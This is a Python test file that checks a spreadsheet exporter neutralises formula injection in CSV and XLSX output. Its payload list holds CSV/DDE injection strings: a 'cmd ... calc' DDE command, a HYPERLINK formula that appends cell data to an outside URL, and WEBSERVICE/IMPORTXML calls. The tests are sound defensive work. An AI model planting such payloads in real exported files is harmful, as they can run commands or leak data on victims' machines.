"""No text that is exported can run as a formula, and none is changed by that (OWASP ASVS 5.0, 1.2.10)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tracker.spreadsheets import cells, reading
from tracker.spreadsheets.book import Table, written

_BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.org?x="&A1,"here")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://example.org")',
    'IMPORTXML(CONCAT("http://example.org"),"//a")',
)
_BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", "  -", "\n=")
PAYLOADS = [begin + body for begin in _BEGINNINGS for body in _BODIES]
_RUNS = re.compile(r"[ \xa0]*[=+\-@\t\r]")


def _as_csv(text: str) -> str:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([cells.guarded(text)])
    return out.getvalue()


def _as_xlsx(text: str):
    file = b"".join(written([Table("sheet", [20], ["text"], [[text]])]))
    return load_workbook(io.BytesIO(file), read_only=True, data_only=False).worksheets[0].cell(2, 1)


def _check(text: str) -> None:
    for separator in ",;\t":
        for line in csv.reader(io.StringIO(_as_csv(text), newline=""), delimiter=separator):
            assert not [cell for cell in line if _RUNS.match(cell)], (separator, line)
    assert next(csv.reader(io.StringIO(_as_csv(text), newline="")))[0] == cells.guarded(text)
    assert cells.unguarded(cells.guarded(text)) == text
    assert cells.unescaped(cells.escaped(text)) == text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_a_text_in_csv_and_in_xlsx(payload: str) -> None:
    _check(payload)
    cell = _as_xlsx(payload)
    assert cell.data_type == "s"
    assert reading._cell(cell) == payload


@settings(max_examples=2_000, deadline=None)
@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@'\t\r\n;, \"\0_x1"), st.characters(codec="utf-8")), max_size=30))
@example("';=1")
@example("a;\n'\t@")
def test_any_text_is_a_text_and_comes_back(text: str) -> None:
    _check(text)


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        alphabet=st.one_of(st.sampled_from("=+-@'\t\r\n \0\x01_x0D\ufffe"), st.characters(codec="utf-8")), min_size=1
    )
)
def test_any_text_comes_back_from_a_cell_of_xlsx(text: str) -> None:
    cell = _as_xlsx(text)
    assert cell.data_type == "s"
    assert reading._cell(cell) == text


def test_a_text_longer_than_a_cell_says_that_it_was_cut() -> None:
    assert cells.escaped("ж" * 40_000) == "ж" * (cells.LONGEST - 2) + " …"
    assert cells.escaped("ж" * cells.LONGEST) == "ж" * cells.LONGEST
